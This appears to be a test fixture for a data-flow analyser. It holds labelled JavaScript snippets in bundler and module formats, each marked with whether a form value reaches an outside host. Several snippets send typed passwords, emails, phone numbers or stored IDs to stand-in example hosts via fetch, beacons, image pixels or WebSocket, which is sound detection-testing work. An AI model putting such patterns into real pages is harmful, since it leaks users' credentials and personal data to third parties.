//# webpack-n-d
// flow: email > wp.mod.example via fetch
(() => {
  var mods = {
    101: (m, e, r) => { r.d(e, { p: () => send }); function send(v) { return fetch('https://wp.mod.example/s', { method: 'POST', body: v }); } },
    202: (m, e, r) => { var a = r(101); (0, a.p)(document.querySelector('input[type=email]').value); },
  };
  var cache = {};
  function n(i) { if (cache[i]) return cache[i].exports; var m = (cache[i] = { exports: {} }); mods[i](m, m.exports, n); return m.exports; }
  n.o = (o, k) => Object.prototype.hasOwnProperty.call(o, k);
  n.d = (e, d) => { for (var k in d) if (n.o(d, k) && !n.o(e, k)) Object.defineProperty(e, k, { enumerable: true, get: d[k] }); };
  n(202);
})();

//# webpack-other-export
// no flow
// why: the entry takes the export that only logs
(() => {
  var mods = {
    7: (m, e, r) => {
      r.d(e, { Z: () => log, P: () => send });
      const send = (v) => fetch('https://wpother.mod.example/s', { method: 'POST', body: v });
      const log = (v) => console.log(v);
    },
    8: (m, e, r) => { var a = r(7); (0, a.Z)(document.querySelector('input[type=email]').value); },
  };
  var c = {};
  function n(i) { if (c[i]) return c[i].exports; var m = (c[i] = { exports: {} }); mods[i](m, m.exports, n); return m.exports; }
  n.d = (e, d) => { for (var k in d) Object.defineProperty(e, k, { enumerable: true, get: d[k] }); };
  n(8);
})();

//# webpack-module-never-required
// no flow
// no destination: unused.mod.example
// why: module 3 is in the table, but no one asks for it
!function (t) {
  var s = {};
  function n(i) { if (s[i]) return s[i].exports; var m = s[i] = { i: i, l: !1, exports: {} }; return t[i].call(m.exports, m, m.exports, n), m.l = !0, m.exports; }
  n(0);
}([
  function (e, t, n) { n(1)(document.querySelector('input[name=username]').value); },
  function (e, t) { e.exports = function (v) { console.log('hi', v); }; },
  function (e, t) { e.exports = function (v) { return v; }; },
  function (e, t) { fetch('https://unused.mod.example/u?v=' + document.querySelector('input[name=username]').value); },
]);

//# webpack-default-interop
// flow: phone > interop.mod.example via xhr
!function (t) {
  function n(i) { var m = { exports: {} }; t[i].call(m.exports, m, m.exports, n); return m.exports; }
  n(0);
}({
  0: function (e, t, n) { "use strict"; var r = n(5), o = r && r.__esModule ? r : { default: r }; (0, o.default)(document.querySelector('input[type=tel]').value); },
  5: function (e, t) {
    "use strict";
    Object.defineProperty(t, "__esModule", { value: !0 });
    t.default = function (v) { var x = new XMLHttpRequest(); x.open("POST", "https://interop.mod.example/t"), x.send(v); };
  },
});

//# browserify
// flow: identifier > brow.mod.example via image
(function e(t, n, r) {
  function s(o) { if (!n[o]) { var l = n[o] = { exports: {} }; t[o][0].call(l.exports, function (e) { return s(t[o][1][e] || e); }, l, l.exports); } return n[o].exports; }
  for (var o = 0; o < r.length; o++) s(r[o]);
  return s;
})({
  1: [function (require, module, exports) { require('./pixel').fire(localStorage.getItem('uid')); }, { './pixel': 2 }],
  2: [function (require, module, exports) { exports.fire = function (id) { new Image().src = 'https://brow.mod.example/p?' + id; }; }, {}],
}, {}, [1]);

//# browserify-two-files
// no flow
// why: both modules are called store; the number map of the caller leads to the one that keeps the value
(function (t, r) {
  var n = {};
  function s(o) { if (!n[o]) { var l = n[o] = { exports: {} }; t[o][0](function (e) { return s(t[o][1][e]); }, l, l.exports); } return n[o].exports; }
  s(r);
})({
  1: [function (require, module) { require('./store')(document.querySelector('textarea[name=message]').value); }, { './store': 3 }],
  2: [function (require, module) { module.exports = function (v) { fetch('https://store2.mod.example/s', { method: 'POST', body: v }); }; }, {}],
  3: [function (require, module) { module.exports = function (v) { sessionStorage.setItem('m', v); }; }, {}],
}, 1);

//# umd-global
// flow: email > umd.mod.example via beacon
(function (root, factory) {
  if (typeof define === 'function' && define.amd) define([], factory);
  else if (typeof module === 'object' && module.exports) module.exports = factory();
  else root.LeadKit = factory();
})(typeof self !== 'undefined' ? self : this, function () {
  return { lead: function (e) { navigator.sendBeacon('https://umd.mod.example/l', e); } };
});
window.LeadKit.lead(document.querySelector('input[type=email]').value);

//# umd-constant-use
// no flow
// why: the library could send what it is given, and is given a constant
(function (g, f) { g.Pix = f(); })(this, function () {
  return { hit: function (n) { new Image().src = 'https://umdc.mod.example/h?' + n; } };
});
var typedMail = document.querySelector('input[type=email]').value;
if (typedMail.length) Pix.hit('filled');

//# amd-named
// flow: search > amd.mod.example via fetch
var defs = {};
function define(name, deps, f) { defs[name] = { deps: deps, f: f }; }
function require(name) { var d = defs[name]; return d.v || (d.v = d.f.apply(null, d.deps.map(require))); }
define('net', [], function () { return { get: function (u) { return fetch(u); } }; });
define('ui', ['net'], function (net) { return function () { net.get('https://amd.mod.example/s?q=' + document.querySelector('input[type=search]').value); }; });
document.querySelector('#go').onclick = function () { require('ui')(); };

//# amd-not-run
// no flow
// why: the factory of the second module is never run
(function () {
  var table = {};
  function define(name, f) { table[name] = f; }
  define('net', function () { return function () { return fetch('https://amdok.mod.example/ping'); }; });
  define('leak', function () { fetch('https://amdno.mod.example/l?p=' + document.querySelector('input[type=password]').value); });
  table.net()();
})();

//# system-register
// flow: username > sys.mod.example via fetch
const System = { register(deps, decl) { const out = {}; const d = decl((k, v) => { out[k] = v; return v; }); d.execute(); this.last = out; } };
System.register([], function (_export) {
  return { setters: [], execute: function () { _export('send', (v) => fetch('https://sys.mod.example/s', { method: 'POST', body: v })); } };
});
System.last.send(document.querySelector('input[name=username]').value);

//# es-export-function
// flow: password > es.mod.example via fetch
// why: nothing calls it here, who imports the module can
export function signIn() {
  return fetch('https://es.mod.example/in', { method: 'POST', body: document.querySelector('input[type=password]').value });
}

//# es-not-exported
// no flow
// why: the sender is local to the module and called with a constant only
const send = (v) => fetch('https://local.mod.example/in', { method: 'POST', body: v });
export function signInHint() {
  document.querySelector('#hint').textContent = document.querySelector('input[type=password]').value ? '' : 'required';
  send('hint');
}

//# typescript-namespace
// flow: message > ts.mod.example via websocket
var Chat;
(function (Chat) {
  var sock = new WebSocket('wss://ts.mod.example/c');
  function say(t) { sock.send(t); }
  Chat.say = say;
})(Chat || (Chat = {}));
document.querySelector('#send').onclick = function () { Chat.say(document.querySelector('textarea[name=message]').value); };

//# typescript-enum
// no flow
// destination: https://enum.mod.example/e/1
// why: the enum gives a number for the name, the password is only measured
var Level;
(function (Level) { Level[Level["Low"] = 0] = "Low"; Level[Level["High"] = 1] = "High"; })(Level || (Level = {}));
document.querySelector('#meter').value = document.querySelector('input[type=password]').value.length;
fetch('https://enum.mod.example/e/' + Level.High);

//# export-object-other-key
// no flow
// why: the caller takes the function that checks, not the one that sends
var api = (function (exports) {
  function send(v) { fetch('https://key.mod.example/s', { method: 'POST', body: v }); }
  exports.check = function (v) { return v.length > 3; };
  exports.ping = function () { send('ping'); };
  return exports;
})({});
api.check(document.querySelector('input[type=password]').value) && api.ping();

//# module-cache
// no flow
// why: the module runs once, with what was there at first
var cache = {};
function req(id, arg) { return cache[id] || (cache[id] = mods[id](arg)); }
var mods = { conf: function (a) { return { tag: a }; } };
req('conf', 'v1');
fetch('https://cache.mod.example/c?t=' + req('conf', document.querySelector('input[name=username]').value).tag);
